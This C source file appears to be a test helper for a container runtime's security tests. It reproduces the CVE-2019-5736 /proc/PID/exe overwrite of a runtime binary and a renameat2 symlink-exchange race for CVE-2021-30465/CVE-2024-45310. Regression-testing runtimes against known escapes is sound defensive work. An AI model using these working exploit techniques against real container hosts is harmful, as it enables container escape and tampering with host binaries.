/* attack: a static helper the attack tests (runtime-tests/tests/runtime/attacks.rs) run inside
 * containers, doing what a hostile container process would do.
 *   attack fds            print the fds this process holds ("fds 0 1 2"), each with its target
 *   attack exewatch SECS  CVE-2019-5736: for SECS seconds, catch every process in the
 *                         container's PID namespace that runs another binary than ours (a
 *                         runtime entering the container), hold its /proc/PID/exe open, and try
 *                         to write it (directly, and through /proc/self/fd/N after it exits).
 *                         Prints "caught N" and one "WROTE ..." line per successful write.
 *   attack swap SECS A B  CVE-2021-30465/CVE-2024-45310: exchange A and B (a directory and a
 *                         symlink) with renameat2(RENAME_EXCHANGE) as fast as possible for SECS
 *                         seconds; prints "swapped N". */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static int fds(void) {
    DIR *d = opendir("/proc/self/fd");
    if (!d) { printf("opendir: %s\n", strerror(errno)); return 1; }
    int self = dirfd(d);
    printf("fds");
    struct dirent *e;
    char list[4096] = "";
    while ((e = readdir(d))) {
        if (e->d_name[0] == '.' || atoi(e->d_name) == self) continue;
        char p[300], t[512];
        snprintf(p, sizeof p, "/proc/self/fd/%s", e->d_name);
        ssize_t n = readlink(p, t, sizeof t - 1);
        t[n < 0 ? 0 : n] = 0;
        printf(" %s", e->d_name);
        snprintf(list + strlen(list), sizeof list - strlen(list), "fd %s -> %s\n", e->d_name, t);
    }
    printf("\n%s", list);
    closedir(d);
    return 0;
}

#define MAXC 256
static int held[MAXC], heldpid[MAXC];
static char heldexe[MAXC][256];

static int try_write(int fd, const char *exe, int pid) {
    char p[64];
    snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
    int w = open(p, O_WRONLY | O_APPEND);
    if (w < 0) return errno;
    int r = write(w, "PWNED", 5), err = errno;
    close(w);
    if (r <= 0) return err ? err : EIO;
    printf("WROTE %d bytes into %s (pid %d) through %s\n", r, exe, pid, p);
    fflush(stdout);
    return 0;
}

static int exewatch(int secs) {
    char me[256];
    ssize_t n = readlink("/proc/self/exe", me, sizeof me - 1);
    me[n < 0 ? 0 : n] = 0;
    int caught = 0, lasterr = 0;
    time_t end = time(NULL) + secs;
    printf("watching\n");
    fflush(stdout);
    while (time(NULL) < end) {
        DIR *d = opendir("/proc");
        if (!d) return 1;
        struct dirent *e;
        while ((e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == getpid()) continue;
            char p[64], exe[256];
            snprintf(p, sizeof p, "/proc/%d/exe", pid);
            ssize_t m = readlink(p, exe, sizeof exe - 1);
            if (m <= 0) continue;
            exe[m] = 0;
            if (!strcmp(exe, me) || strstr(exe, "busybox")) continue;
            int seen = 0;
            for (int i = 0; i < caught; i++) if (heldpid[i] == pid) seen = 1;
            if (seen || caught >= MAXC) continue;
            int fd = open(p, O_RDONLY);
            if (fd < 0) continue;
            int w = open(p, O_WRONLY | O_APPEND);
            if (w >= 0) {
                printf("WROTE-DIRECT opened %s (%s) for writing\n", p, exe);
                close(w);
            }
            held[caught] = fd;
            heldpid[caught] = pid;
            snprintf(heldexe[caught], sizeof heldexe[caught], "%s", exe);
            caught++;
            printf("caught pid %d exe %s\n", pid, exe);
            fflush(stdout);
        }
        closedir(d);
        for (int i = 0; i < caught; i++)
            if (held[i] >= 0) {
                int err = try_write(held[i], heldexe[i], heldpid[i]);
                if (err == 0) { close(held[i]); held[i] = -1; }
                else lasterr = err;
            }
    }
    printf("caught %d (last write error: %s)\n", caught, lasterr ? strerror(lasterr) : "none");
    return 0;
}

static int swap(int secs, const char *a, const char *b) {
    long n = 0;
    time_t end = time(NULL) + secs;
    printf("swapping\n");
    fflush(stdout);
    while (time(NULL) < end)
        for (int i = 0; i < 10000; i++)
            if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0) n++;
    printf("swapped %ld\n", n);
    return 0;
}

int main(int argc, char **argv) {
    if (argc >= 5 && !strcmp(argv[1], "swap")) return swap(atoi(argv[2]), argv[3], argv[4]);
    if (argc >= 2 && !strcmp(argv[1], "fds")) return fds();
    if (argc >= 3 && !strcmp(argv[1], "exewatch")) return exewatch(atoi(argv[2]));
    fprintf(stderr, "usage: attack fds | exewatch SECS | swap SECS A B\n");
    return 2;
}
